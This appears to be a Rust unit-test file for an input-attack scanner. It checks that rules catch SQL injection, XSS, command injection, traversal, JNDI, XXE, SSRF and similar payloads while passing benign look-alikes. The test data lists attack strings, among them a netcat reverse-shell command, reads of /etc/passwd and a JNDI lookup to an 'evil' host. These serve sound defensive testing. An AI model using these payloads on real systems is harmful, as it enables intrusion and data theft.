//! Unit tests: every rule set compiles, and each category catches a plain
//! attack and lets its benign look-alike through. The labelled corpus is in
//! `tests/corpus.rs`.

use super::*;

fn scan(value: &str) -> Option<Category> {
    Scanner::new(Level::Medium, Categories::ALL)
        .scan(value, Field::default())
        .map(|f| f.category)
}

#[test]
fn every_rule_set_compiles() {
    assert!(sql::compiled());
    assert!(xss::compiled());
    assert!(shell::compiled());
    assert!(template::compiled());
    assert!(structure::compiled());
    assert!(UNION.iter().all(Option::is_some));
}

fn plain(value: &str) -> bool {
    is_plain(value, &normalize::ByteSet::of(value.as_bytes()))
}

#[test]
fn plain_text_is_letters_digits_space_dash_underscore_dot_comma() {
    for c in (0..0x800).filter_map(char::from_u32) {
        let want = c.is_ascii_alphanumeric()
            || matches!(c, ' ' | '-' | '_' | '.' | ',')
            || (c.is_alphabetic()
                && matches!(c as u32, 0xC0..=0x24F)
                && !matches!(c, '\u{10A}' | '\u{10D}' | '\u{130}' | '\u{1C0}'..='\u{1C3}'));
        assert_eq!(plain(&c.to_string()), want, "{c:?}");
        // (Two spaces meeting are not plain: the SQL view collapses them.)
        assert_eq!(plain(&format!("Ab1 {c} z")), want && c != ' ', "{c:?}");
    }
    assert!(plain("a.b c-d_e,f"));
    assert!(!plain("a  b"));
    assert!(plain("Siobhán Dún Laoghaire Łódź Ærø ǅ"));
    assert!(!plain("a..b"));
    // Look-alikes that fold to ASCII, Unicode spaces and other scripts are
    // not plain: they take the full path.
    for v in [
        "ｓelect",
        "İd",
        "a\u{a0}b",
        "a\u{2003}b",
        "Андрей",
        "名前",
        "č\u{10A}",
        "2×3",
        "x \u{1c0} whoami",
    ] {
        assert!(!plain(v), "{v:?}");
    }
}

#[test]
fn latin_letters_hide_no_attack_from_the_detectors() {
    for attack in [
        "Siobhán' OR '1'='1",
        "Dún<script>alert(1)</script>",
        "José; cat /etc/passwd",
        "../../Łódź/../etc/passwd",
        "1 UNION SELECT café FROM users",
    ] {
        assert!(scan(attack).is_some(), "{attack}");
    }
    for benign in [
        "Siobhán O'Brien",
        "Dún Laoghaire",
        "Łódź, Poland",
        "Crème brûlée - 2 portions",
    ] {
        assert_eq!(scan(benign), None, "{benign}");
    }
}

#[test]
fn the_union_is_quiet_only_where_no_rule_set_matches() {
    let values = [
        "' OR '1'='1",
        "1 UNION/**/SELECT password FROM users",
        "<img src=x onerror=alert(1)>",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "; cat /etc/passwd",
        "{{7*7}}",
        "${jndi:ldap://x/a}",
        "{\"$ne\": null}",
        "*)(uid=*))(|(uid=*",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "a\r\nSet-Cookie: x=1",
        "O'Brien",
        "select a plan from the menu",
        "Gift wrap please & add a card: 'Happy birthday, Mam!'",
        "Last order arrived 1 or 2 days late -- no big deal. Thanks <3",
        "Shortbread (12 pack)",
        "2026-12-03T09:00:00Z",
        "siobhan.obrien@example.ie",
        "Ring twice; if no answer leave with the neighbour (Mrs. D'Arcy).",
        "a | b",
        "$(id)",
        "`id`",
        "x' and 1=1 --",
        "javascript:alert(1)",
        "__proto__",
        "#{7*7}",
        "<%= 7*7 %>",
        "",
    ];
    let sets: [(&str, &rules::RuleSet); 10] = [
        ("shell", &shell::SET),
        ("xss", &xss::SET),
        ("sql", &sql::SET),
        ("ssti", &template::SSTI),
        ("jndi", &template::JNDI),
        ("traversal", &structure::TRAVERSAL),
        ("nosql", &structure::NOSQL),
        ("ldap", &structure::LDAP),
        ("xxe", &structure::XXE),
        ("crlf", &structure::CRLF),
    ];
    let mut quiet_seen = 0;
    for level in [Level::Low, Level::Medium, Level::High] {
        for value in values {
            let v = Views::new(value);
            let union = UNION[level as usize].as_ref().unwrap();
            let quiet = !union.is_match(v.folded.as_bytes());
            let any_set = sets.iter().any(|(_, set)| set.first(&v.folded, level).is_some());
            assert_eq!(quiet, !any_set, "{value:?} at {level:?}");
            quiet_seen += usize::from(quiet);
        }
    }
    // Both answers occur: the test says something either way.
    assert!(quiet_seen > 0 && quiet_seen < 3 * values.len());
}

#[test]
fn attacks_are_found_in_their_category() {
    let cases = [
        ("' OR '1'='1", Category::Sqli),
        ("1 UNION/**/SELECT password FROM users", Category::Sqli),
        ("<img src=x onerror=alert(1)>", Category::Xss),
        ("../../etc/passwd", Category::Traversal),
        ("; cat /etc/passwd", Category::Cmd),
        ("{{7*7}}", Category::Ssti),
        (r#"{"$ne": null}"#, Category::Nosql),
        ("*)(uid=*))(|(uid=*", Category::Ldap),
        (
            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>"#,
            Category::Xxe,
        ),
        ("%0d%0aSet-Cookie: a=b", Category::Crlf),
        ("${${lower:j}ndi:ldap://evil/a}", Category::Jndi),
        ("1 or true", Category::Sqli),
        ("-1 or id is not null", Category::Sqli),
        ("1 union distinctrow select 1", Category::Sqli),
        ("%{(#_='multipart/form-data').(#cmd='id')}", Category::Ssti),
    ];
    for (value, category) in cases {
        assert_eq!(scan(value), Some(category), "{value}");
    }
}

#[test]
fn benign_look_alikes_pass() {
    for value in [
        "O'Brien",
        "select a plan from the menu",
        "rock & roll",
        "I'll sleep on it; or maybe not",
        "a < b and c > d",
        "Hello {name}",
        "50% off",
        "price: $5",
        "user@example.com",
        "日本語のテキスト",
        r#"{"size": "M", "qty": 2}"#,
        "line one\nline two",
    ] {
        assert_eq!(scan(value), None, "{value}");
    }
}

#[test]
fn ssrf_schemes_apply_to_url_fields_and_hosts_to_any_url() {
    let scanner = Scanner::new(Level::Medium, Categories::ALL);
    let url = Field {
        url_like: true,
        ..Field::default()
    };
    let hit = scanner.scan("http://169.254.169.254/latest/meta-data/", url);
    assert_eq!(hit.map(|f| f.category), Some(Category::Ssrf));
    // Outside URL fields only a value that is itself an http(s) URL is judged,
    // and only by its host.
    let hit = scanner.scan("http://169.254.169.254/latest/meta-data/", Field::default());
    assert_eq!(hit.map(|f| f.category), Some(Category::Ssrf));
    assert_eq!(scanner.scan("gopher://example.com/", Field::default()), None);
    assert_eq!(
        scanner.scan("our server is http://10.0.0.5 today", Field::default()),
        None
    );
    assert_eq!(scanner.scan("https://example.com/a?b=c", url), None);
}

#[test]
fn keys_are_checked_for_operators_only() {
    let scanner = Scanner::new(Level::Medium, Categories::ALL);
    let key = Field {
        is_key: true,
        ..Field::default()
    };
    assert_eq!(scanner.scan("$where", key).map(|f| f.category), Some(Category::Nosql));
    assert_eq!(
        scanner.scan("user[$ne]", key).map(|f| f.category),
        Some(Category::Nosql)
    );
    assert_eq!(scanner.scan("<script>", key), None);
    assert_eq!(scanner.scan("price$", key), None);
}

#[test]
fn disabled_categories_stay_silent() {
    let only_xss = Scanner::new(Level::Medium, Categories::NONE.with(Category::Xss));
    assert_eq!(only_xss.scan("' OR '1'='1", Field::default()), None);
    assert!(only_xss.scan("<script>alert(1)</script>", Field::default()).is_some());
}

#[test]
fn levels_widen_the_net() {
    let probe = "<b class=x>bold</b>";
    let at = |level| Scanner::new(level, Categories::ALL).scan(probe, Field::default());
    assert_eq!(at(Level::Medium), None);
    assert_eq!(at(Level::High).map(|f| f.category), Some(Category::Xss));
}

#[test]
fn plain_text_is_still_matched_against_every_rule_set() {
    // Letters, digits, spaces and `-_.,` only, short and long (past the 128
    // bytes an earlier version lower-cased on the stack), ASCII and with Latin
    // letters.
    let pad = "Please leave the parcel at the side door, thanks".repeat(3);
    assert!(pad.len() > 128);
    for (attack, category) in [
        ("1 UNION SELECT username, password FROM users", Category::Sqli),
        ("-1 Union All Select 1,2,3", Category::Sqli),
        ("sysobjects", Category::Sqli),
        ("nc -e cmd.exe 10.0.0.1 4444", Category::Cmd),
        ("win.ini", Category::Traversal),
        ("id_rsa", Category::Traversal),
    ] {
        for v in [
            attack.to_owned(),
            format!("{pad} {attack}"),
            format!("{attack} é"),
            format!("Ó {pad} {attack}"),
        ] {
            assert!(is_plain(&v, &normalize::ByteSet::of(v.as_bytes())), "{v}");
            assert_eq!(scan(&v), Some(category), "{v}");
        }
    }
    for benign in [
        "Select a plan from the menu",
        "Union Street 12, Cork",
        "Dún Laoghaire",
        "TEA-EARLGREY-250",
    ] {
        for v in [benign.to_owned(), format!("{pad} {benign}")] {
            assert_eq!(scan(&v), None, "{v}");
        }
    }
}

#[test]
fn the_union_reads_text_as_it_came_as_the_rules_read_it_lower_cased() {
    // No rule holds a non-ASCII byte or a capital (outside an escape such as
    // `\S`): the union, which matches either case, answers on lower-cased
    // text as the rules do, and Latin capitals read as they came are what
    // the rules would see of them too.
    assert!(rule_sets().iter().flat_map(|s| s.patterns()).all(str::is_ascii));
    for p in rule_sets().iter().flat_map(|s| s.patterns()) {
        let b = p.as_bytes();
        let capital = (0..b.len()).any(|i| b[i].is_ascii_uppercase() && (i == 0 || b[i - 1] != b'\\'));
        assert!(!capital, "{p}");
    }
    let mut texts: Vec<String> = [
        "1 UNION SELECT username, password FROM users",
        "-1 Union All Select 1,2,3",
        "SysObjects",
        "NC -E CMD.EXE 10.0.0.1 4444",
        "WIN.INI",
        "Id_Rsa",
        "1 OR 2 days",
        "Select a plan from the menu",
        "Dún Laoghaire, ÉIRE",
        "0X41414141DEADBEEF",
    ]
    .map(String::from)
    .to_vec();
    // Every word of the rule patterns, alone and between plain words, in
    // three case mixes.
    for p in rule_sets().iter().flat_map(|s| s.patterns()) {
        for w in p
            .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
            .filter(|w| w.len() > 1)
        {
            for v in [
                w.to_owned(),
                w.to_ascii_uppercase(),
                format!("1 Or {} By 2", w.to_ascii_uppercase()),
            ] {
                texts.push(v);
            }
        }
    }
    let mut matched = 0;
    for t in &texts {
        let lower = t.to_lowercase();
        for level in [Level::Low, Level::Medium, Level::High] {
            let union = UNION[level as usize].as_ref().expect("compiles");
            let rules = rule_sets().iter().any(|s| s.first(&lower, level).is_some());
            assert_eq!(union.is_match(lower.as_bytes()), rules, "{t:?} at {level:?}");
            if rules {
                matched += 1;
                assert!(union.is_match(t.as_bytes()), "{t:?} at {level:?}");
            }
        }
    }
    assert!(matched > 100, "{matched}");
}
